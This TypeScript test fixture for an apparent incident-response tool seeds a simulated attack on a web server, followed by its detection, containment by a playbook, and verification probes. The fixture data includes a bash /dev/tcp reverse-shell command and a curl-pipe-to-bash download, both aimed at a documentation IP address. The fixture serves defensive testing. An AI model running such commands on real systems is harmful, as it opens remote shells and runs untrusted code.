/** An incident as a real attack leaves it: a web server's shell that calls home, seen, decided upon, contained and proved. */
import { type AlertId, type IncidentId, newId } from '@firebreak/shared/ids.ts'
import { AGENT, type ApiUnderTest, commandRow, hostRow, NOW } from './api.fixture.ts'

const iso = (afterMs: number) => new Date(NOW + afterMs).toISOString()

export async function seedIncident(
  { state }: Pick<ApiUnderTest, 'state'>,
  commandLine = 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
) {
  const incidentId = newId<'incident'>(NOW + 400)
  const alertId = newId<'alert'>(NOW + 390)
  const commandId = newId<'command'>(NOW + 500)
  const runId = `contain-host:${incidentId.slice(0, 8)}`
  const techniques = JSON.stringify(['T1059.004', 'T1071.001'])
  const tactics = JSON.stringify(['execution', 'command-and-control'])
  await state.write(async (tx) => {
    await tx
      .insertInto('hosts')
      .values({
        ...hostRow(AGENT, 'web-1'),
        connected_session: 's'.repeat(64),
        containment: JSON.stringify({
          phase: 'isolated',
          command_id: commandId,
          expires_at: iso(3_600_000),
          drift_count: 0,
        }),
      })
      .execute()
    await tx
      .insertInto('incidents')
      .values(incidentRow(incidentId, techniques, tactics))
      .execute()
    await tx
      .insertInto('alerts')
      .values(alertRow(alertId, incidentId, techniques, tactics))
      .execute()
    for (const signal of signals(alertId, commandLine)) await tx.insertInto('signals').values(signal).execute()
    await tx
      .insertInto('runs')
      .values({
        id: runId,
        playbook_id: 'contain-host',
        playbook_sha256: 'a'.repeat(64),
        incident_id: incidentId,
        agent_id: AGENT,
        state: 'succeeded',
        why: null,
        variables: '{}',
        started_by: 'system',
        started_at: iso(450),
        updated_at: iso(900),
        ended_at: iso(900),
      })
      .execute()
    const steps = [
      ['not-protected', 'if', null],
      ['isolate', 'command', commandId],
    ] as const
    for (const [at, [step, type, command]] of steps.entries())
      await tx
        .insertInto('run_steps')
        .values({
          run_id: runId,
          step_id: step,
          n: at + 1,
          type,
          state: 'succeeded',
          inputs: '{}',
          outputs: '{}',
          command_id: command,
          why: null,
          started_at: iso(460 + at),
          ended_at: iso(461 + at * 430),
        })
        .execute()
    await tx
      .insertInto('commands')
      .values({
        ...commandRow(commandId),
        state: 'verified',
        actor: 'playbook:contain-host',
        reason: 'reverse shell, confidence 93',
        incident_id: incidentId,
        run_id: runId,
        playbook: 'contain-host',
        created_at: iso(500),
        delivered_at: iso(510),
        evidence: JSON.stringify(EVIDENCE),
      })
      .execute()
    for (const [n, what] of ['approved', 'queued', 'delivered', 'accepted', 'applied', 'verified'].entries())
      await tx
        .insertInto('command_transitions')
        .values({ command_id: commandId, n: n + 1, state: what, at: iso(500 + n * 60), detail: '{}' })
        .execute()
  })
  return { incidentId, alertId, commandId, runId }
}

const EVIDENCE = {
  applied_ms: 22.4,
  confirmed_ms: 61,
  sockets_closed: 3,
  dropped_packets: 17,
  controllers: ['192.0.2.1:8421'],
  expires_at: iso(3_600_000),
  probes: [
    { name: 'tcp-new', target: '203.0.113.66:4444', expected: 'blocked', found: 'blocked', detail: 'EPERM' },
    { name: 'udp', target: '198.51.100.1:53', expected: 'blocked', found: 'blocked', detail: 'EPERM' },
    {
      name: 'ipv6',
      target: '[2001:db8::1]:80',
      expected: 'blocked',
      found: 'unverifiable',
      detail: 'no IPv6 address on this host',
    },
    { name: 'loopback', target: '127.0.0.1', expected: 'open', found: 'open' },
    { name: 'controller', target: '192.0.2.1:8421', expected: 'open', found: 'open', detail: 'signed round trip' },
  ],
}

function incidentRow(id: IncidentId, techniques: string, tactics: string) {
  return {
    id,
    title: 'Reverse shell by bash on web-1',
    severity: 'critical',
    confidence: 93,
    parts: JSON.stringify([
      { name: 'prior', logOdds: -2, why: 'how often an alert of this kind is right before anything is known' },
      { name: 'rule precision', logOdds: 2.9, why: 'the rule is stable and critical: Reverse Shell by /dev/tcp' },
      { name: 'rarity', logOdds: 1.2, why: 'this command line was never seen before on any of 12 hosts' },
      { name: 'chain', logOdds: 0.5, why: 'two tactics in one process lineage' },
    ]),
    decision: 'act' as const,
    route: 'act' as const,
    escalated_why: null,
    merged_into: null,
    status: 'contained' as const,
    verdict: null,
    hosts: JSON.stringify([AGENT]),
    techniques,
    tactics,
    assignee: null,
    first_seen: iso(0),
    last_seen: iso(350),
    created_at: iso(400),
    updated_at: iso(900),
  }
}

function alertRow(id: AlertId, incidentId: IncidentId, techniques: string, tactics: string) {
  return {
    id,
    agent_id: AGENT,
    dedup_key: 'k',
    title: 'Reverse Shell by /dev/tcp',
    severity: 'critical',
    confidence: 93,
    parts: '[]',
    techniques,
    tactics,
    entities: JSON.stringify({
      processes: ['p3'],
      users: ['www-data'],
      hashes: [],
      addresses: ['203.0.113.66'],
      files: [],
    }),
    status: 'open' as const,
    verdict: null,
    signal_count: 3,
    first_seen: iso(0),
    last_seen: iso(350),
    incident_id: incidentId,
    created_at: iso(390),
    updated_at: iso(390),
  }
}

const nginx = {
  entity_id: 'p1',
  pid: 811,
  name: 'nginx',
  executable: '/usr/sbin/nginx',
  command_line: 'nginx: worker process',
  user: { name: 'www-data' },
}
const sh = {
  entity_id: 'p2',
  pid: 4120,
  name: 'sh',
  executable: '/bin/sh',
  command_line: 'sh -c "curl -s http://203.0.113.66/a | bash"',
  user: { name: 'www-data' },
}

function signals(alertId: string, commandLine: string) {
  const shell = {
    entity_id: 'p3',
    pid: 4122,
    name: 'bash',
    executable: '/usr/bin/bash',
    command_line: commandLine,
    user: { name: 'www-data' },
    parent: sh,
    ancestors: [
      { pid: 811, entity_id: 'p1', name: 'nginx' },
      { pid: 1, entity_id: 'p0', name: 'systemd' },
    ],
  }
  const curl = {
    entity_id: 'p4',
    pid: 4121,
    name: 'curl',
    executable: '/usr/bin/curl',
    command_line: 'curl -s http://203.0.113.66/a',
    user: { name: 'www-data' },
    parent: sh,
    ancestors: [
      { pid: 811, entity_id: 'p1', name: 'nginx' },
      { pid: 1, entity_id: 'p0', name: 'systemd' },
    ],
  }
  const whole = { ...sh, parent: nginx, ancestors: [{ pid: 1, entity_id: 'p0', name: 'systemd' }] }
  return [
    signal(alertId, 0, 'Shell by a Web Server', 'high', { process: whole }),
    signal(alertId, 120, 'Download by curl to a Shell', 'medium', { process: curl }),
    signal(alertId, 350, 'Reverse Shell by /dev/tcp', 'critical', {
      process: shell,
      destination: { ip: '203.0.113.66', port: 4444 },
    }),
  ]
}

function signal(
  alertId: string,
  afterMs: number,
  title: string,
  level: string,
  fields: Readonly<Record<string, unknown>>,
) {
  return {
    id: newId<'signal'>(NOW + afterMs),
    agent_id: AGENT,
    detector: 'sigma',
    rule_id: `rule-${afterMs}`,
    rule_title: title,
    rule_sha256: 'b'.repeat(64),
    level,
    techniques: JSON.stringify(['T1059.004']),
    tactics: JSON.stringify(['execution']),
    event_id: `e${afterMs}`,
    event_time: iso(afterMs),
    event: JSON.stringify({
      '@timestamp': iso(afterMs),
      event: { category: ['process'], type: ['start'], action: 'process-started' },
      ...fields,
    }),
    alert_id: alertId,
    created_at: iso(afterMs + 30),
  }
}
